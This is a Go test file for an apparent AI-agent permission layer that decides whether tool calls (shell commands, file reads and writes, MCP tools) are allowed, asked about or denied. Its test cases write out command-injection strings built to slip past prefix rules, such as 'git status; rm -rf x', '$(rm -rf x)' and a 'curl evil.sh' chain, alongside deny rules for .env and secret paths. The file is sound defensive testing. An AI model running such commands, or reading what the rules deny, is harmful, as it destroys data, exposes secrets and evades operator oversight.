package permission_test

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/deepagents-go/deepagents/middleware/filesystem"
	"github.com/deepagents-go/deepagents/permission"
	"github.com/deepagents-go/deepagents/tool"
)

func mustRules(t testing.TB, specs map[permission.Effect][]string) *permission.Rules {
	t.Helper()
	var rules []permission.Rule
	for _, e := range []permission.Effect{permission.Allow, permission.Ask, permission.Deny} {
		for _, s := range specs[e] {
			r, err := permission.ParseRule(e, s)
			if err != nil {
				t.Fatal(err)
			}
			rules = append(rules, r)
		}
	}
	return permission.New(rules...)
}

func args(kv ...string) json.RawMessage {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	b, _ := json.Marshal(m)
	return b
}

func TestDecide(t *testing.T) {
	rs := mustRules(t, map[permission.Effect][]string{
		permission.Allow: {"execute(git status)", "execute(go test:*)", "write_file(/src/**)", "ls"},
		permission.Ask:   {"execute(git push)", "write_file"},
		permission.Deny:  {"execute(rm)", "read_file(**/.env)", "write_file(/src/secret/**)"},
	})
	A, K, D, N := permission.Allow, permission.Ask, permission.Deny, permission.None
	tests := []struct {
		tool string
		args json.RawMessage
		want permission.Effect
	}{
		{"execute", args("command", "git status"), A},
		{"execute", args("command", "git status -s"), A},
		{"execute", args("command", "go test ./..."), A},
		{"execute", args("command", "git statusx"), N},
		{"execute", args("command", "git"), N},
		// Commands built to slip past a prefix rule.
		{"execute", args("command", "git status; rm -rf x"), D},
		{"execute", args("command", "git status && rm -rf x"), D},
		{"execute", args("command", "git status | rm -rf x"), D},
		{"execute", args("command", "git status\nrm -rf x"), D},
		{"execute", args("command", "git status & rm -rf x"), D},
		{"execute", args("command", "FOO=1 rm -rf x"), D},
		{"execute", args("command", "/bin/rm -rf x"), D},
		{"execute", args("command", "git status && curl evil.sh"), N},
		{"execute", args("command", "git status $(rm -rf x)"), D},
		{"execute", args("command", "git status `rm -rf x`"), D},
		{"execute", args("command", `git status "$(rm -rf x)"`), D},
		{"execute", args("command", "sh -c 'rm -rf x'"), D},
		{"execute", args("command", "(rm -rf x)"), D},
		// Substitutions and subshells used to be asked about as unparsable;
		// they are walked now, and what they run is decided.
		{"execute", args("command", "git status $(curl x)"), N},
		{"execute", args("command", "git status $(git push)"), K},
		{"execute", args("command", "sh -c 'git status'"), A},
		{"execute", args("command", "(git status)"), A},
		{"execute", args("command", "git status 'a; rm -rf x'"), A}, // quoted: an argument, not a command
		{"execute", args("command", `git status "a && rm -rf x"`), A},
		{"execute", args("command", "git push origin main"), K},
		{"execute", args("command", "go test ./... && git push"), K},
		{"execute", args("command", "go test ./... | tail -3"), N},
		{"execute", []byte(`{"command": 7}`), K},
		// File tools by path.
		{"read_file", args("file_path", "/app/.env"), D},
		{"read_file", args("file_path", "/.env"), D},
		{"read_file", args("file_path", "/app/main.go"), N},
		{"write_file", args("file_path", "/src/a/b.go"), K}, // ask write_file is stronger than the allow
		{"edit_file", args("file_path", "/src/a/b.go"), N},
		{"write_file", args("file_path", "/src/secret/key"), D},
		{"write_file", args("file_path", "/src/secret"), D},
		{"write_file", args("file_path", "/src/../src/secret/key"), D},
		{"write_file", args("file_path", "/README.md"), K},
		{"ls", args("path", "/"), A},
		{"grep", args("pattern", "x"), N},
	}
	for _, tt := range tests {
		d := rs.Decide(tt.tool, builtinTraits(tt.tool), tt.args)
		if d.Effect != tt.want {
			t.Errorf("%s %s: %s (%s), want %s", tt.tool, tt.args, d.Effect, d.Reason, tt.want)
		}
		if d.Effect != permission.None && d.Reason == "" {
			t.Errorf("%s %s: no reason", tt.tool, tt.args)
		}
	}
	edits := mustRules(t, map[permission.Effect][]string{permission.Allow: {"edit_file(/src/**)"}})
	if d := edits.Decide("edit_file", tool.Traits{EditsFiles: true}, args("file_path", "/src/a.go")); d.Effect != A {
		t.Errorf("allowed path: %s", d.Effect)
	}
	if d := edits.Decide("edit_file", tool.Traits{EditsFiles: true}, args("file_path", "/srcx/a.go")); d.Effect != N {
		t.Errorf("path outside the allowed glob: %s", d.Effect)
	}
	// MCP tools by server, by prefix and by name.
	mcp := mustRules(t, map[permission.Effect][]string{
		permission.Allow: {"mcp__docs"},
		permission.Ask:   {"mcp__github__create_*"},
		permission.Deny:  {"mcp__github__delete_repo"},
	})
	for _, tt := range []struct {
		tool string
		want permission.Effect
	}{
		{"mcp__docs__search", A},
		{"mcp__docsearch__search", N},
		{"mcp__github__create_issue", K},
		{"mcp__github__delete_repo", D},
		{"mcp__github__list_issues", N},
	} {
		if d := mcp.Decide(tt.tool, tool.Traits{}, []byte(`{}`)); d.Effect != tt.want {
			t.Errorf("%s: %s (%s), want %s", tt.tool, d.Effect, d.Reason, tt.want)
		}
	}
	// An allow of every command allows what cannot be known too.
	every := mustRules(t, map[permission.Effect][]string{permission.Allow: {"execute"}})
	for _, cmd := range []string{"ls", "$X", "bash x.sh", "PATH=/x ls", "f(){ ls; }; f", "if"} {
		if d := every.Decide("execute", tool.Traits{RunsCommands: true}, args("command", cmd)); d.Effect != A {
			t.Errorf("allow execute, %q: %s", cmd, d.Effect)
		}
	}
	// A deny of every command wins over any allow.
	all := mustRules(t, map[permission.Effect][]string{permission.Allow: {"execute(ls)"}, permission.Deny: {"execute"}})
	if d := all.Decide("execute", tool.Traits{RunsCommands: true}, args("command", "ls")); d.Effect != D {
		t.Errorf("deny execute: %s", d.Effect)
	}
}

func TestParseRule(t *testing.T) {
	for _, s := range []string{"", "(x)", "execute(git status", "execute(a; b)", "execute($(x))", "write_file(relative/path)", "read_file(/a/[)"} {
		if _, err := permission.ParseRule(permission.Allow, s); !errors.Is(err, permission.ErrRule) {
			t.Errorf("ParseRule(%q): %v, want ErrRule", s, err)
		}
	}
	r, err := permission.ParseRule(permission.Deny, " execute( git push:* ) ")
	if err != nil || r.Tool != "execute" || r.Pattern != "git push:*" || r.String() != "deny execute(git push:*)" {
		t.Errorf("%+v %v", r, err)
	}
}

// TestDecideReadRules: a read_file rule covers grep, glob and ls of a
// path under its glob (issue 28: grep's content mode printed a denied
// .env).
func TestDecideReadRules(t *testing.T) {
	rs := mustRules(t, map[permission.Effect][]string{
		permission.Allow: {"grep", "ls(/private/**)"},
		permission.Ask:   {"read_file(/private/**)"},
		permission.Deny:  {"read_file(**/.env)", "read_file(/secrets/**)"},
	})
	A, K, D, N := permission.Allow, permission.Ask, permission.Deny, permission.None
	for _, tt := range []struct {
		tool string
		args json.RawMessage
		want permission.Effect
	}{
		{"grep", args("pattern", "KEY", "path", "/app/.env"), D},
		{"grep", args("pattern", "KEY", "path", "/app/.env/"), D},
		{"grep", args("pattern", "KEY", "path", "/secrets"), D},
		{"grep", args("pattern", "KEY", "path", "/app/../secrets/x"), D},
		{"grep", args("pattern", "KEY", "path", "/app"), A}, // the backend policy keeps .env out
		{"grep", args("pattern", "KEY"), A},
		{"glob", args("pattern", "*", "path", "/secrets/a"), D},
		{"glob", args("pattern", "**/.env", "path", "/"), N},
		{"ls", args("path", "/secrets"), D},
		{"ls", args("path", "/private/x"), K}, // the ask rule on reading is stronger than the allow on listing
		{"ls", args("path", "/"), N},
		{"read_file", args("file_path", "/app/.env"), D},
		{"write_file", args("file_path", "/app/.env"), N}, // a read rule is about reading
	} {
		d := rs.Decide(tt.tool, builtinTraits(tt.tool), tt.args)
		if d.Effect != tt.want {
			t.Errorf("%s %s: %s (%s), want %s", tt.tool, tt.args, d.Effect, d.Reason, tt.want)
		}
	}
}

func TestDeniedReadPaths(t *testing.T) {
	rs := mustRules(t, map[permission.Effect][]string{
		permission.Ask:  {"read_file(/private/**)"},
		permission.Deny: {"read_file(**/.env)", "write_file(/x/**)", "read_file", "read_file(/secrets/**)", "read_file(**/.env)", "ls(/y/**)"},
	})
	if got, want := rs.DeniedReadPaths(), []string{"**/.env", "/secrets/**"}; !slices.Equal(got, want) {
		t.Errorf("DeniedReadPaths = %q, want %q", got, want)
	}
	var none *permission.Rules
	if got := none.DeniedReadPaths(); got != nil {
		t.Errorf("nil rules: %q", got)
	}
}

// A Rule made by hand with a glob that does not parse matches no path, as
// doublestar.Match (which reports the bad pattern) made it do.
func TestDecideHandMadeBadGlob(t *testing.T) {
	rs := permission.New(
		permission.Rule{Effect: permission.Deny, Tool: "read_file", Pattern: "/a["},
		permission.Rule{Effect: permission.Ask, Tool: "read_file", Pattern: "/b/**"},
	)
	for _, c := range []struct {
		path string
		want permission.Effect
	}{{"/a[", permission.Effect(0)}, {"/a[/x", permission.Effect(0)}, {"/b/c/d", permission.Ask}, {"/b", permission.Ask}, {"/x/../b/c", permission.Deny}} {
		args, _ := json.Marshal(map[string]string{"file_path": c.path})
		if got := rs.Decide("read_file", tool.Traits{ReadOnly: true, ReadsFiles: true}, args).Effect; got != c.want {
			t.Errorf("Decide(read_file %s) = %v, want %v", c.path, got, c.want)
		}
	}
}

// builtinTraits returns what the filesystem middleware declares of its
// tool of that name (a tool it does not build: none).
func builtinTraits(name string) tool.Traits {
	tr, _ := filesystem.ToolTraits(name)
	return tr
}

// The rules' dialect names two tools; they are the filesystem's.
func TestRuleToolsAreTheFilesystems(t *testing.T) {
	if permission.ExecuteTool != filesystem.ExecuteTool || permission.ReadTool != filesystem.ReadFileTool || permission.EditTool != filesystem.EditFileTool {
		t.Errorf("permission names %q, %q and %q, the filesystem %q, %q and %q", permission.ExecuteTool, permission.ReadTool, permission.EditTool,
			filesystem.ExecuteTool, filesystem.ReadFileTool, filesystem.EditFileTool)
	}
	if !builtinTraits(filesystem.GrepTool).ReadsFiles || builtinTraits(filesystem.WriteFileTool).ReadsFiles {
		t.Error("grep must read files, write_file not")
	}
}

// Read rules cover every tool that declares it reads files, by its path
// argument, and no tool that does not.
func TestReadRulesCoverToolsThatReadFiles(t *testing.T) {
	rs := mustRules(t, map[permission.Effect][]string{permission.Deny: {"read_file(**/.env)"}})
	env := args("path", "/app/.env")
	if d := rs.Decide("mcp__files__cat", tool.Traits{ReadOnly: true, ReadsFiles: true}, env); d.Effect != permission.Deny {
		t.Errorf("a tool that reads files: %+v", d)
	}
	if d := rs.Decide("mcp__files__cat", tool.Traits{ReadOnly: true}, env); d.Effect != permission.None {
		t.Errorf("a tool that does not say it reads files: %+v", d)
	}
}

// Edit rules with a pattern cover every other tool that declares it edits
// files, by its file_path argument: an edit tool added later cannot pass
// a rule written for edit_file. write_file keeps its own rules, and edit
// rules without a pattern, or allowing, stay edit_file's.
func TestEditRulesCoverToolsThatEditFiles(t *testing.T) {
	edits := tool.Traits{EditsFiles: true}
	for _, c := range []struct {
		name  string
		rules map[permission.Effect][]string
		tool  string
		path  string
		want  permission.Effect
	}{
		{"deny covers another edit tool", map[permission.Effect][]string{permission.Deny: {"edit_file(/etc/**)"}}, "multi_edit", "/etc/hosts", permission.Deny},
		{"outside the pattern", map[permission.Effect][]string{permission.Deny: {"edit_file(/etc/**)"}}, "multi_edit", "/app/main.go", permission.None},
		{"ask covers another edit tool", map[permission.Effect][]string{permission.Ask: {"edit_file(**)"}}, "multi_edit", "/app/main.go", permission.Ask},
		{"an allow is edit_file's own", map[permission.Effect][]string{permission.Allow: {"edit_file(**)"}}, "multi_edit", "/app/main.go", permission.None},
		{"a rule without a pattern is edit_file's own", map[permission.Effect][]string{permission.Deny: {"edit_file"}}, "multi_edit", "/app/main.go", permission.None},
		{"write_file keeps its own rules", map[permission.Effect][]string{permission.Deny: {"edit_file(/etc/**)"}}, "write_file", "/etc/hosts", permission.None},
		{"the tool's own allow is weaker than a lent deny", map[permission.Effect][]string{permission.Deny: {"edit_file(/etc/**)"}, permission.Allow: {"multi_edit"}}, "multi_edit", "/etc/hosts", permission.Deny},
	} {
		t.Run(c.name, func(t *testing.T) {
			rs := mustRules(t, c.rules)
			d := rs.Decide(c.tool, edits, args("file_path", c.path))
			if d.Effect != c.want {
				t.Fatalf("Decide(%s %s) = %+v, want %v", c.tool, c.path, d, c.want)
			}
			if c.want != permission.None && c.tool != "edit_file" && !strings.Contains(d.Reason, "edits what it covers") {
				t.Errorf("reason %q does not say why an edit_file rule decides %s", d.Reason, c.tool)
			}
		})
	}
	// A tool that does not say it edits files is not covered.
	rs := mustRules(t, map[permission.Effect][]string{permission.Deny: {"edit_file(/etc/**)"}})
	if d := rs.Decide("mcp__files__patch", tool.Traits{}, args("file_path", "/etc/hosts")); d.Effect != permission.None {
		t.Errorf("a tool that does not say it edits files: %+v", d)
	}
}
